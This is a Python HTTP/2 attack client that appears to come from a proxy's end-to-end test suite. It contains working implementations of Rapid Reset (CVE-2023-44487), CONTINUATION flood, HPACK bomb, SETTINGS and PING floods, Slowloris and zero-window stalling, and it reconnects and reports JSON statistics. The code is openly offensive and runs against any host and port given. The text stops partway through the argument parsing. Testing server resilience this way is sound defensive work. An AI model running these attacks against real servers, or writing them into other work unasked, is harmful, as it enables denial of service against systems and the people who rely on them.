#!/usr/bin/env python3
"""HTTP/2 attack client for the proxy's end-to-end tests.  Runs one attack
against one server for --duration seconds, reconnecting whenever the server
closes a connection, and reports as JSON lines on stdout what it sent and how
the server reacted.  It attacks; judging the server is the caller's job.
See README.md.

ATTACK is one of: rapid-reset, continuation-flood, hpack-bomb, settings-flood,
ping-flood, slowloris, zero-window.
"""

import argparse
import collections
import os
import random
import selectors
import socket
import statistics
import string
import struct
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import framelog  # noqa: E402
from framelog import PREFACE, build_header, emit, parse_header  # noqa: E402

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
FLAG_ACK = FLAG_END_STREAM = 0x1
FLAG_END_HEADERS = 0x4
CANCEL = 0x8
HEADER_TABLE_SIZE, ENABLE_PUSH, MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE = 1, 2, 3, 4, 5

MIN_MAX_FRAME_SIZE = 16384     # every server accepts frames this large (RFC 9113 §4.2)
DEFAULT_TABLE_SIZE = 4096
DEFAULT_WINDOW = 65535
GRPC_EMPTY = b"\0\0\0\0\0"    # gRPC message prefix: not compressed, 0 bytes
BATCH_BYTES = 65536           # flood bytes handed to one send()
LOGGED_RECONNECTIONS = 10     # per-connection lines for the first connections and this many more
RECONNECT_BACKOFF = 0.1       # after a failed connect
TURN = 0.02                   # seconds one connection may write before select() serves the others


# ---------------------------------------------------------------- encoding
def hpack_int(value, prefix_bits, pattern):
    """RFC 7541 §5.1 integer with an N-bit prefix; `pattern` holds the bits above it."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([pattern | value])
    out = [pattern | limit]
    value -= limit
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value, indexing=False):
    """Literal header field (no Huffman). `name` is a static-table index or bytes.
    Without indexing the dynamic table is left alone, so a block built from these
    can be sent again and again; with incremental indexing the field is inserted."""
    pattern, bits = (0x40, 6) if indexing else (0x00, 4)
    head = hpack_int(name, bits, pattern) if isinstance(name, int) else \
        bytes([pattern]) + hpack_int(len(name), 7, 0) + name
    return head + hpack_int(len(value), 7, 0) + value


def request_block(authority, path, extra=()):
    """POST http://authority/path as a gRPC call, with `extra` (name, value) headers; touches
    no dynamic table."""
    return (bytes([0x80 | 3, 0x80 | 6])                 # :method POST, :scheme http (static)
            + hpack_literal(4, path.encode())           # :path
            + hpack_literal(1, authority.encode())      # :authority
            + hpack_literal(31, b"application/grpc")   # content-type
            + hpack_literal(b"te", b"trailers")
            + hpack_literal(58, b"h2py-attacks")       # user-agent
            + b"".join(hpack_literal(n.encode(), v.encode()) for n, v in extra))


def frame(type_id, flags, stream, payload=b""):
    return build_header(len(payload), type_id, flags, stream) + payload


def settings_frame(settings):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HL", k, v) for k, v in settings.items()))


def grpc_message(msg):
    return b"\0" + struct.pack(">L", len(msg)) + msg


def pb_varint(v):
    out = bytearray()
    while v >= 0x80:
        out.append(v & 0x7F | 0x80)
        v >>= 7
    out.append(v)
    return bytes(out)


def stream_request(count, size):
    """proxytest.StreamRequest{count, size} (tests/proto/test.proto)."""
    return b"\x08" + pb_varint(count) + b"\x10" + pb_varint(size)


class Batch:
    """Bytes for the send queue: `reps` repetitions of `layout`, a list of (bytes, frame
    type counted once they are written, or None).  Attack batches count one unit per rep.
    The layout lets a partly written batch be accounted frame by frame."""
    __slots__ = ("data", "layout", "reps", "attack", "rep_len")

    def __init__(self, data, layout, reps=1, attack=False):
        self.data, self.layout, self.reps, self.attack = data, layout, reps, attack
        self.rep_len = sum(n for n, _ in layout)

    def account(self, run, written):
        full, rest = divmod(written, self.rep_len)
        for n, name in self.layout:
            k = full
            if rest >= n:
                k += 1
                rest -= n
            else:
                rest = -1
            if name and k:
                run.sent[name] += k
        if self.attack:
            run.units += full


# -------------------------------------------------------------- connection
class Conn:
    def __init__(self, run, slot, sock):
        self.run, self.slot, self.sock = run, slot, sock
        self.id = run.connects
        self.t0 = time.monotonic()
        self.queue = collections.deque()
        self.off = 0                  # bytes of queue[0] already written
        self.splitter = framelog.FrameSplitter()
        self.settings = {}            # the server's
        self.state = "handshake"      # -> "attack" -> "goaway" (stops sending)
        self.reading = True
        self.events = 0               # registered with the selector
        self.blocked_since = None
        self.bytes_sent = 0
        self.got_bytes = False
        self.next_stream = 1
        self.unacked = 0              # DATA bytes not yet given back with WINDOW_UPDATE
        self.ctx = {}                 # the attack's per-connection state
        self.closed = False

    def send(self, batch):
        self.queue.append(batch)
        if batch.attack:
            self.run.units_queued += batch.reps

    def take_streams(self, k):
        """First of k new client stream ids (odd, step 2), or None when they ran out."""
        first = self.next_stream
        if first + 2 * k > 0x7FFFFFFF:
            self.close("us", "stream ids exhausted")
            return None
        self.next_stream += 2 * k
        return first

    def stop_sending(self):
        """Drop what is queued, except the rest of a frame already half on the wire."""
        keep = self.queue[0] if self.queue and self.off else None
        self.queue.clear()
        if keep:
            self.queue.append(keep)

    def register(self, events):
        if events == self.events:
            return
        sel = self.run.sel
        if not self.events:
            sel.register(self.sock, events, self)
        elif not events:
            sel.unregister(self.sock)
        else:
            sel.modify(self.sock, events, self)
        self.events = events

    def flush(self):
        """Write until the socket is full (then the server is slower than us: send_blocked_s
        counts until it takes more), the attack has nothing more, or the turn is over."""
        run = self.run
        end = time.monotonic() + TURN
        while time.monotonic() < end:
            if not self.queue:
                run.pump(self)
                if not self.queue:
                    return
            b = self.queue[0]
            try:
                n = self.sock.send(memoryview(b.data)[self.off:])
            except BlockingIOError:
                n = 0
            except OSError as e:
                self.fail("send failed: %s" % e)
                return
            t = time.monotonic()
            if n and self.blocked_since is not None:
                run.blocked += t - self.blocked_since
                self.blocked_since = None
            run.bytes_sent += n
            self.bytes_sent += n
            self.off += n
            if self.off < len(b.data):
                if self.blocked_since is None:
                    self.blocked_since = t
                return
            b.account(run, len(b.data))
            self.queue.popleft()
            self.off = 0

    def on_readable(self):
        try:
            data = self.sock.recv(262144)
        except BlockingIOError:
            return
        except OSError as e:
            self.fail("reset: %s" % e)
            return
        if not data:
            self.fail("eof")
            return
        self.feed(data)

    def feed(self, data):
        run = self.run
        run.bytes_recv += len(data)
        if not self.got_bytes:
            self.got_bytes = True
            if not framelog.looks_like_server_preface(data):
                run.fatal = "peer does not speak HTTP/2 (first bytes %r)" % data[:24]
                return
        for hdr, body in self.splitter.feed(data):
            self.on_frame(hdr, body)
            if self.closed:
                return

    def on_frame(self, hdr, body):
        run = self.run
        length, type_id, flags, stream = parse_header(hdr)
        stream &= 0x7FFFFFFF
        run.recv[framelog.type_name(type_id)] += 1
        answer = self.state == "attack" and run.attack.answer
        if type_id == SETTINGS and not flags & FLAG_ACK:
            for i in range(0, len(body) - 5, 6):
                k, v = struct.unpack_from(">HL", body, i)
                self.settings[k] = v
            if self.state == "handshake":
                self.ready()
            elif answer:
                self.send(Batch(frame(SETTINGS, FLAG_ACK, 0), [(9, "SETTINGS")]))
        elif type_id == PING and not flags & FLAG_ACK and answer:
            self.send(Batch(frame(PING, FLAG_ACK, 0, body), [(17, "PING")]))
        elif type_id == DATA and length and answer and run.attack.replenish:
            self.unacked += length
            if self.unacked >= 32768:  # give the connection window back, as a client would
                self.send(Batch(frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", self.unacked)),
                                [(13, "WINDOW_UPDATE")]))
                self.unacked = 0
        elif type_id == RST_STREAM and len(body) == 4:
            run.rst[framelog.ERROR_NAMES.get(struct.unpack(">L", body)[0], "UNKNOWN")] += 1
        elif type_id == GOAWAY:
            self.on_goaway(hdr, body)
        run.attack.on_frame(self, type_id, flags, stream, body)

    def ready(self):
        """The server's first SETTINGS arrived: ACK it, then the attack begins."""
        run = self.run
        self.send(Batch(frame(SETTINGS, FLAG_ACK, 0), [(9, "SETTINGS")]))
        self.state = "attack"
        self.reading = run.read
        run.ready_conns += 1
        if run.ready_conns == 1:
            emit({"event": "server_settings", "conn": self.id,
                  "settings": {str(k): v for k, v in sorted(self.settings.items())}})
        run.attack.ready(self)

    def on_goaway(self, hdr, body):
        run = self.run
        rec = framelog.frame_record("recv", hdr, body)
        t = time.monotonic()
        g = {"conn": self.id, "t": round(t, 6), "after_s": round(t - run.t_start, 6),
             "conn_after_s": round(t - self.t0, 6)}
        g.update({k: rec[k] for k in ("error_code", "error", "last_stream_id", "debug") if k in rec})
        run.goaways.append(g)
        if run.logged(self):
            emit({"event": "goaway", **g})
        # The connection is of no more use: keep reading it to see when the server closes
        # it, and open a new one in its place (an attacker would).
        self.state = "goaway"
        self.stop_sending()
        if run.slots[self.slot] is self:
            run.slots[self.slot] = None

    def drain(self, idle, limit=1.0):
        """Read what the server sent (without answering) until it has been quiet for
        `idle` s (0: only what is there now), it closed, or `limit` s passed."""
        end = time.monotonic() + limit
        while not self.closed and not self.run.fatal:
            wait = min(idle, end - time.monotonic())
            if wait < 0 or not readable(self.sock, wait):
                return
            try:
                data = self.sock.recv(262144)
            except OSError:
                return
            if not data:
                return
            self.run.drained += len(data)
            self.feed(data)

    def fail(self, reason):
        """The server closed or reset the connection."""
        self.drain(0 if self.reading else 0.05)  # a GOAWAY may still wait in the receive buffer
        self.close("peer", reason)

    def close(self, by, reason):
        if self.closed:
            return
        run = self.run
        self.closed = True
        t = time.monotonic()
        if self.queue and self.off:
            self.queue[0].account(run, self.off)
        if self.blocked_since is not None:
            run.blocked += t - self.blocked_since
        self.register(0)
        run.bytes_acked += tcp_bytes_acked(self.sock)
        self.sock.close()
        run.conns.discard(self)
        if run.slots[self.slot] is self:
            run.slots[self.slot] = None
        rec = {"conn": self.id, "slot": self.slot, "by": by, "reason": reason,
               "after_s": round(t - self.t0, 6), "since_start_s": round(t - run.t_start, 6),
               "bytes_sent": self.bytes_sent}
        run.closes.append(rec)
        if run.logged(self):
            emit({"event": "closed", **rec})


def tcp_bytes_acked(sock):
    """tcpi_bytes_acked from TCP_INFO (Linux >= 4.1): what reached the server's kernel."""
    try:
        info = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 256)
    except OSError:
        return 0
    if len(info) < 128:
        return 0
    return max(0, struct.unpack_from("<Q", info, 120)[0] - 1)  # the SYN counts one


def readable(sock, timeout):
    with selectors.DefaultSelector() as s:
        s.register(sock, selectors.EVENT_READ)
        return bool(s.select(timeout))


# ----------------------------------------------------------------- attacks
class Attack:
    """Hooks the Run calls. The defaults behave like an ordinary client."""
    unit = "frames"         # what --rate and `units` count
    reads = True            # read during the attack unless --no-read
    answer = True           # ACK the server's SETTINGS and PINGs during the attack
    replenish = True        # give back the connection window as DATA arrives
    handshake = True        # preface + SETTINGS, and wait for the server's SETTINGS
    settings = {ENABLE_PUSH: 0}

    def __init__(self, run):
        self.run, self.args = run, run.args

    def ready(self, c):
        """Handshake done (or none): queue the attack's opening frames."""

    def pump(self, c, allowed):
        """Queue up to `allowed` more units on c."""

    def wakeup(self, c):
        """Monotonic time at which pump() will have something for c, if it has a timer."""
        return None

    def on_frame(self, c, type_id, flags, stream, body):
        """Called for every frame received, after the Run handled it."""

    def summary(self):
        return {}


class Flood(Attack):
    """The same prebuilt frames over and over, BATCH_BYTES per send()."""

    def __init__(self, run, frames, name):
        super().__init__(run)
        self.unit_len = len(frames[0])  # all frames the same size
        self.batch_units = max(1, BATCH_BYTES // self.unit_len)
        self.buf = b"".join(frames[i % len(frames)] for i in range(self.batch_units))
        self.layout = [(self.unit_len, name)]

    def pump(self, c, allowed):
        k = min(allowed, self.batch_units)
        data = self.buf if k == self.batch_units else self.buf[:k * self.unit_len]
        c.send(Batch(data, self.layout, k, attack=True))


FLOOD_SETTINGS = {HEADER_TABLE_SIZE: 4096, ENABLE_PUSH: 0, MAX_CONCURRENT_STREAMS: 100,
                  INITIAL_WINDOW_SIZE: DEFAULT_WINDOW}


class SettingsFlood(Flood):
    """Non-ACK SETTINGS (the values of the handshake, so nothing changes) the server must ACK
    each; by default never read, so the ACKs pile up on the server's side."""
    reads = False
    settings = FLOOD_SETTINGS

    def __init__(self, run):
        super().__init__(run, [settings_frame(FLOOD_SETTINGS)], "SETTINGS")


class PingFlood(Flood):
    """PINGs the server must answer; by default never read."""
    reads = False

    def __init__(self, run):
        super().__init__(run, [frame(PING, 0, 0, b"h2pyatck")], "PING")


class ContinuationFlood(Flood):
    """A HEADERS frame without END_HEADERS on stream 1, then CONTINUATION frames full of
    literal header fields with random names, never ending the header block."""
    answer = False      # nothing may come between a HEADERS frame and its CONTINUATIONs
    replenish = False
    FIELD = 64          # bytes per field: 0x00, name length, 13-byte name, value length, 48-byte value

    def __init__(self, run):
        rnd = random.Random(run.args.seed)
        letters = string.ascii_lowercase.encode()

        def payload():
            # Whole fields only, so that frames can follow each other in any order.
            return b"".join(hpack_literal(b"x-" + bytes(rnd.choices(letters, k=11)), b"v" * 48)
                            for _ in range(MIN_MAX_FRAME_SIZE // self.FIELD))
        frames = [frame(CONTINUATION, 0, 1, payload())
                  for _ in range(max(1, BATCH_BYTES // (9 + MIN_MAX_FRAME_SIZE)))]
        super().__init__(run, frames, "CONTINUATION")
        block = request_block(run.authority, run.path)
        self.headers = frame(HEADERS, 0, 1, block)

    def ready(self, c):
        c.send(Batch(self.headers, [(len(self.headers), "HEADERS")]))


class RapidReset(Attack):
    """CVE-2023-44487: HEADERS, an empty gRPC message with END_STREAM (so the upstream gets a
    real call) and at once RST_STREAM(CANCEL), on a new stream each, many per send()."""
    unit = "pairs"

    def __init__(self, run):
        super().__init__(run)
        self.block = request_block(run.authority, run.path, run.args.header)
        # Frame headers without their stream ids, which change for every pair.
        self.h = build_header(len(self.block), HEADERS, FLAG_END_HEADERS, 0)[:5]
        self.d = build_header(len(GRPC_EMPTY), DATA, FLAG_END_STREAM, 0)[:5]
        self.r = build_header(4, RST_STREAM, 0, 0)[:5]
        self.cancel = struct.pack(">L", CANCEL)
        self.layout = [(9 + len(self.block), "HEADERS"), (9 + len(GRPC_EMPTY), "DATA"), (13, "RST_STREAM")]
        self.batch_units = max(1, BATCH_BYTES // sum(n for n, _ in self.layout))

    def pump(self, c, allowed):
        k = min(allowed, self.batch_units)
        first = c.take_streams(k)
        if first is None:
            return
        parts = []
        for sid in range(first, first + 2 * k, 2):
            s = sid.to_bytes(4, "big")
            parts += (self.h, s, self.block, self.d, s, GRPC_EMPTY, self.r, s, self.cancel)
        c.send(Batch(b"".join(parts), self.layout, k, attack=True))


class HpackBomb(Attack):
    """One large header inserted into the server's HPACK dynamic table (stream 1), then small
    HEADERS frames on new streams that each reference it --refs times at one byte apiece,
    so every frame decodes to refs x entry-size bytes of header list."""
    unit = "headers"
    NAME = b"x-bomb"

    def __init__(self, run):
        super().__init__(run)
        self.req = request_block(run.authority, run.path)
        # One frame per request: the block must fit the smallest MAX_FRAME_SIZE.
        self.refs = min(self.args.refs, MIN_MAX_FRAME_SIZE - len(self.req))
        block = self.req + bytes([0x80 | 62]) * self.refs   # indexed field 62: newest dynamic entry
        self.h = build_header(len(block), HEADERS, FLAG_END_STREAM | FLAG_END_HEADERS, 0)[:5]
        self.block = block
        self.layout = [(9 + len(block), "HEADERS")]
        self.batch_units = max(1, BATCH_BYTES // (9 + len(block)))
        self.entry = None

    def ready(self, c):
        # An entry as large as asked, but no larger than the table the server advertises.
        entry = min(self.args.entry_size, c.settings.get(HEADER_TABLE_SIZE, DEFAULT_TABLE_SIZE))
        value_len = entry - 32 - len(self.NAME)   # RFC 7541 §4.1 entry size
        if value_len < 1:
            self.run.fatal = "server's HEADER_TABLE_SIZE (%d) has no room for an entry" % entry
            return
        self.entry = entry
        insert = frame(HEADERS, FLAG_END_STREAM | FLAG_END_HEADERS, c.take_streams(1),
                       self.req + hpack_literal(self.NAME, b"b" * value_len, indexing=True))
        c.send(Batch(insert, [(len(insert), "HEADERS")]))

    def pump(self, c, allowed):
        k = min(allowed, self.batch_units)
        first = c.take_streams(k)
        if first is None:
            return
        parts = []
        for sid in range(first, first + 2 * k, 2):
            parts += (self.h, sid.to_bytes(4, "big"), self.block)
        c.send(Batch(b"".join(parts), self.layout, k, attack=True))

    def summary(self):
        frame_len = self.layout[0][0]
        decoded = self.refs * self.entry if self.entry else None
        return {"entry_size": self.entry, "refs": self.refs, "headers_frame_bytes": frame_len,
                "decoded_bytes_per_headers": decoded,
                "amplification": round(decoded / frame_len, 1) if decoded else None}


class ZeroWindow(Attack):
    """Streams whose responses can never flow: SETTINGS_INITIAL_WINDOW_SIZE=0 and never a
    WINDOW_UPDATE, so the server has to buffer or stall every response. The request bodies
    themselves are sent within the server's windows."""
    unit = "streams"
    replenish = False
    settings = {ENABLE_PUSH: 0, INITIAL_WINDOW_SIZE: 0}

    def __init__(self, run):
        super().__init__(run)
        a = self.args
        if a.body_hex is not None:
            msg = bytes.fromhex(a.body_hex)
        elif a.body_size is not None:
            msg = b"z" * a.body_size
        else:
            msg = stream_request(a.messages, a.message_size)
        self.msg_len = len(msg)
        self.body = grpc_message(msg)
        self.block = request_block(run.authority, run.path)
        self.headers = self.ended = self.reset = self.data_frames = self.data_bytes = 0

    def ready(self, c):
        limit = c.settings.get(MAX_CONCURRENT_STREAMS)
        n = self.args.streams if limit is None else min(self.args.streams, limit)
        ctx = c.ctx
        ctx["window"] = c.settings.get(INITIAL_WINDOW_SIZE, DEFAULT_WINDOW)
        ctx["conn_window"] = DEFAULT_WINDOW
        ctx["left"] = {}      # stream -> body offset still to send
        ctx["stream_window"] = {}
        for _ in range(n):
            sid = c.take_streams(1)
            h = frame(HEADERS, FLAG_END_HEADERS, sid, self.block)
            c.send(Batch(h, [(len(h), "HEADERS")], attack=True))
            ctx["left"][sid] = 0
            ctx["stream_window"][sid] = ctx["window"]
        if self.run.logged(c):
            emit({"event": "streams_opened", "conn": c.id, "streams": n, "server_limit": limit})
        self.send_bodies(c)

    def send_bodies(self, c):
        ctx, body = c.ctx, self.body
        max_frame = c.settings.get(MAX_FRAME_SIZE, MIN_MAX_FRAME_SIZE)
        frames = []
        for sid, off in list(ctx["left"].items()):
            while off < len(body):
                n = min(len(body) - off, ctx["stream_window"][sid], ctx["conn_window"], max_frame)
                if n <= 0:
                    break
                frames.append(frame(DATA, FLAG_END_STREAM if off + n == len(body) else 0, sid,
                                    body[off:off + n]))
                off += n
                ctx["stream_window"][sid] -= n
                ctx["conn_window"] -= n
            if off == len(body):
                del ctx["left"][sid]
            else:
                ctx["left"][sid] = off
        if frames:
            c.send(Batch(b"".join(frames), [(len(f), "DATA") for f in frames]))

    def on_frame(self, c, type_id, flags, stream, body):
        ctx = c.ctx
        if not ctx:
            return  # still in the handshake
        if type_id == HEADERS:
            if flags & FLAG_END_STREAM:
                self.ended += 1
            else:
                self.headers += 1
        elif type_id == DATA:
            # Our windows are 0: any payload byte here is a flow-control violation.
            self.data_frames += 1
            self.data_bytes += len(body)
            self.ended += flags & FLAG_END_STREAM
        elif type_id == RST_STREAM:
            self.reset += 1
            ctx["left"].pop(stream, None)
        elif type_id in (WINDOW_UPDATE, SETTINGS) and ctx["left"] and c.state == "attack":
            if type_id == WINDOW_UPDATE and len(body) == 4:
                inc = struct.unpack(">L", body)[0] & 0x7FFFFFFF
                if stream == 0:
                    ctx["conn_window"] += inc
                elif stream in ctx["stream_window"]:
                    ctx["stream_window"][stream] += inc
            else:
                new = c.settings.get(INITIAL_WINDOW_SIZE, DEFAULT_WINDOW)
                for sid in ctx["stream_window"]:
                    ctx["stream_window"][sid] += new - ctx["window"]
                ctx["window"] = new
            self.send_bodies(c)

    def summary(self):
        return {"streams_opened": self.run.units, "message_bytes": self.msg_len,
                "response_headers": self.headers, "streams_ended_by_server": self.ended,
                "streams_reset_by_server": self.reset, "data_frames_recv": self.data_frames,
                "data_bytes_recv": self.data_bytes}


class Slowloris(Attack):
    """Many connections that each hold the server at the least cost: after the handshake,
    one byte of a HEADERS frame every --interval s; with --trickle-preface the preface
    and SETTINGS too, from the first byte on; with --idle nothing at all."""
    unit = "bytes"
    answer = False   # no frame can be slipped into the middle of the trickled one
    replenish = False

    def __init__(self, run):
        super().__init__(run)
        a = self.args
        self.handshake = not a.trickle_preface
        # Padded so the frame does not end within the duration (up to one frame's worth).
        pad = min(int(a.duration / a.interval) + 16, MIN_MAX_FRAME_SIZE - 200)
        block = request_block(run.authority, run.path) + hpack_literal(b"x-pad", b"p" * pad)
        parts = [(frame(HEADERS, FLAG_END_HEADERS, 1, block), "HEADERS")]
        if a.trickle_preface:
            parts = [(PREFACE, None), (settings_frame(self.settings), "SETTINGS")] + parts
        self.bytes = b"".join(p for p, _ in parts)
        self.ends = {}   # offset after a frame's last byte -> its type
        off = 0
        for p, name in parts:
            off += len(p)
            self.ends[off] = name

    def ready(self, c):
        c.ctx["pos"] = 0
        c.ctx["next"] = time.monotonic()

    def pump(self, c, allowed):
        ctx = c.ctx
        pos = ctx["pos"]
        if self.args.idle or pos >= len(self.bytes) or time.monotonic() < ctx["next"]:
            return
        c.send(Batch(self.bytes[pos:pos + 1], [(1, self.ends.get(pos + 1))], attack=True))
        ctx["pos"] = pos + 1
        ctx["next"] += self.args.interval

    def wakeup(self, c):
        if self.args.idle or c.ctx["pos"] >= len(self.bytes):
            return None
        return c.ctx["next"]

    def summary(self):
        return {"mode": "idle" if self.args.idle else
                "trickle-preface" if self.args.trickle_preface else "trickle-headers",
                "interval_s": self.args.interval,
                "per_connection": sorted(self.run.closes, key=lambda r: r["conn"])}


ATTACKS = {"rapid-reset": RapidReset, "continuation-flood": ContinuationFlood,
           "hpack-bomb": HpackBomb, "settings-flood": SettingsFlood, "ping-flood": PingFlood,
           "slowloris": Slowloris, "zero-window": ZeroWindow}


# --------------------------------------------------------------------- run
class Run:
    def __init__(self, args):
        self.args = args
        self.authority = framelog.authority(args.host, args.port)
        self.path = args.path
        self.sel = selectors.DefaultSelector()
        self.sent = collections.Counter()
        self.recv = collections.Counter()
        self.rst = collections.Counter()
        self.bytes_sent = self.bytes_recv = self.bytes_acked = 0
        self.units = self.units_queued = self.drained = 0
        self.connects = self.connect_failures = self.handshake_timeouts = self.ready_conns = 0
        self.blocked = 0.0
        self.goaways, self.closes = [], []
        self.conns = set()
        self.slots = [None] * args.connections
        self.retry_at = [0.0] * args.connections
        self.fatal = None
        self.attack = ATTACKS[args.attack](self)
        self.read = args.read

    def open_socket(self, family, sockaddr):
        s = socket.socket(family, socket.SOCK_STREAM)
        try:
            if self.args.rcvbuf:  # before connect(), so the advertised TCP window is small too
                s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.args.rcvbuf)
            s.settimeout(self.args.timeout)
            s.connect(sockaddr)
        except OSError:
            s.close()
            raise
        s.setblocking(False)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return s

    def first_connect(self):
        """Connect slot 0 to the first address that answers and keep that address; exit 2 if none."""
        host = framelog.strip_brackets(self.args.host)
        try:
            infos = socket.getaddrinfo(host, self.args.port, type=socket.SOCK_STREAM)
        except socket.gaierror as e:
            framelog.die("cannot resolve %s: %s" % (host, e), 2)
        last = None
        for family, _, _, _, sockaddr in infos:
            try:
                sock = self.open_socket(family, sockaddr)
            except OSError as e:
                last = e
                continue
            self.family, self.sockaddr = family, sockaddr
            self.t_start = time.monotonic()
            self.start(0, sock)
            return
        framelog.die("cannot connect to %s port %s: %s" % (host, self.args.port, last), 2)

    def connect(self, slot):
        try:
            sock = self.open_socket(self.family, self.sockaddr)
        except OSError as e:
            self.connect_failures += 1
            self.retry_at[slot] = time.monotonic() + RECONNECT_BACKOFF
            if self.connect_failures <= LOGGED_RECONNECTIONS:
                emit({"event": "connect_failed", "slot": slot, "message": str(e)})
            return
        self.start(slot, sock)

    def start(self, slot, sock):
        c = Conn(self, slot, sock)
        self.connects += 1
        self.conns.add(c)
        self.slots[slot] = c
        if self.logged(c):
            emit({"event": "connected", "conn": c.id, "slot": slot,
                  "local": framelog.fmt_addr(sock.getsockname()),
                  "remote": framelog.fmt_addr(sock.getpeername())})
        if self.attack.handshake:
            s = settings_frame(self.attack.settings)
            c.send(Batch(PREFACE + s, [(len(PREFACE), None), (len(s), "SETTINGS")]))
        else:
            c.state = "attack"
            c.reading = self.read
            self.ready_conns += 1
            self.attack.ready(c)

    def logged(self, c):
        return c.id < self.args.connections + LOGGED_RECONNECTIONS

    def allowed(self):
        if self.args.rate is None:
            return 1 << 30
        return int(self.args.rate * (time.monotonic() - self.t_start)) + 1 - self.units_queued

    def next_rate_time(self, now):
        # Wake at most every 10 ms, so that high rates still go out many units per send().
        return max(now + 0.01, self.t_start + self.units_queued / self.args.rate)

    def pump(self, c):
        if c.state == "attack" and not c.closed and not self.fatal:
            k = self.allowed()
            if k > 0:
                self.attack.pump(c, k)

    def loop(self):
        a = self.args
        deadline = self.t_start + a.duration
        next_progress = self.t_start + 1.0
        while not self.fatal:
            now = time.monotonic()
            if now >= deadline:
                break
            for slot, c in enumerate(self.slots):
                if c is None and now >= self.retry_at[slot]:
                    self.connect(slot)
            wake = min(deadline, next_progress)
            wake = min([wake] + [t for t in self.retry_at if t > now])
            for c in list(self.conns):
                if c.state == "handshake" and now - c.t0 > a.timeout:
                    self.handshake_timeouts += 1
                    c.close("us", "no SETTINGS from the server within %g s" % a.timeout)
                    continue
                if c.state == "attack" and not c.queue:
                    self.pump(c)
                    if not c.queue:
                        t = self.attack.wakeup(c)
                        if t is None and a.rate is not None:
                            t = self.next_rate_time(now)
                        if t is not None:
                            wake = min(wake, t)
                c.register((selectors.EVENT_READ if c.reading else 0) |
                           (selectors.EVENT_WRITE if c.queue else 0))
            for key, ev in self.sel.select(max(0.0, wake - time.monotonic())):
                c = key.data
                if ev & selectors.EVENT_READ and not c.closed:
                    c.on_readable()
                if ev & selectors.EVENT_WRITE and not c.closed:
                    c.flush()
            if time.monotonic() >= next_progress:
                next_progress += 1.0
                emit({"event": "progress", "elapsed_s": round(time.monotonic() - self.t_start, 3),
                      "units": self.units, "frames_sent": sum(self.sent.values()),
                      "bytes_sent": self.bytes_sent, "open": len(self.conns),
                      "connects": self.connects, "goaways": len(self.goaways),
                      "server_closes": self.server_closes()})
        end = time.monotonic()
        self.elapsed = end - self.t_start
        for c in list(self.conns):
            if c.blocked_since is not None:  # the attack is over: stop the clock before draining
                self.blocked += end - c.blocked_since
                c.blocked_since = None
        for c in list(self.conns):
            c.drain(0.05 if not c.reading else 0)
            c.close("us", "end of attack")

    def server_closes(self):
        return sum(1 for r in self.closes if r["by"] == "peer")

    def summary(self):
        el = max(self.elapsed, 1e-9)
        frames = sum(self.sent.values())
        by_peer = [r for r in self.closes if r["by"] == "peer"]
        after = [r["after_s"] for r in by_peer]
        return {
            "attack": self.args.attack, "target": self.authority, "path": self.path,
            "duration_s": self.args.duration, "elapsed_s": round(el, 3),
            "connections": self.args.connections, "read": self.read,
            "unit": self.attack.unit, "units": self.units, "rate": round(self.units / el, 1),
            "frames_sent": frames, "frames_per_s": round(frames / el, 1),
            "bytes_sent": self.bytes_sent, "bytes_per_s": round(self.bytes_sent / el),
            "bytes_acked": self.bytes_acked,
            "sent_by_type": dict(sorted(self.sent.items())),
            "frames_recv": sum(self.recv.values()), "bytes_recv": self.bytes_recv,
            "recv_by_type": dict(sorted(self.recv.items())), "drained_bytes": self.drained,
            "goaways": len(self.goaways), "goaway_first": self.goaways[0] if self.goaways else None,
            "goaways_by_error": dict(collections.Counter(g.get("error") for g in self.goaways)),
            "rst_recv": sum(self.rst.values()), "rst_recv_by_error": dict(self.rst),
            "server_closes": len(by_peer),
            "server_close_first_s": by_peer[0]["since_start_s"] if by_peer else None,
            "server_close_after_s": {"min": min(after), "median": round(statistics.median(after), 6),
                                     "max": max(after)} if after else None,
            "connects": self.connects,
            "reconnections": max(0, self.connects - self.args.connections),
            "connect_failures": self.connect_failures, "handshake_timeouts": self.handshake_timeouts,
            "send_blocked_s": round(self.blocked, 3),
            **self.attack.summary(),
        }


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("attack", choices=list(ATTACKS))
    ap.add_argument("--duration", type=float, default=5.0, help="seconds (default 5)")
    ap.add_argument("--header", action="append", default=[],
                    type=lambda t: tuple(t.split("=", 1)) if "=" in t else ap.error("--header NAME=VALUE"),
                    help="rapid-reset: a request header NAME=VALUE (lower-case name; repeatable)")
    ap.add_argument("--connections", type=int,
                    help="connections kept open at once (default 1; slowloris 50)")
    ap.add_argument("--path", help="request path (default /proxytest.Test/Unary; "
                                   "zero-window /proxytest.Test/ServerStream)")
    ap.add_argument("--rate", type=float, help="units per second over all connections (default: flat out)")
    ap.add_argument("--read", action=argparse.BooleanOptionalAction,
                    help="read and answer the server during the attack "
                         "(default: yes, except settings-flood and ping-flood)")
    ap.add_argument("--rcvbuf", type=int,
                    help="SO_RCVBUF set before connect (default: kernel's; 4096 with --no-read)")
    ap.add_argument("--timeout", type=float, default=3.0,
                    help="seconds for connect and for the server's SETTINGS (default 3)")
    ap.add_argument("--seed", type=int, help="continuation-flood: RNG seed for header names")
    ap.add_argument("--entry-size", type=int, default=4000,
                    help="hpack-bomb: dynamic table entry size incl. 32 bytes overhead (default 4000)")
    ap.add_argument("--refs", type=int, default=1000,
                    help="hpack-bomb: references to the entry per HEADERS frame (default 1000)")
    ap.add_argument("--interval", type=float, default=1.0, help="slowloris: seconds per byte (default 1)")
    ap.add_argument("--trickle-preface", action="store_true",
                    help="slowloris: trickle the preface and SETTINGS too")
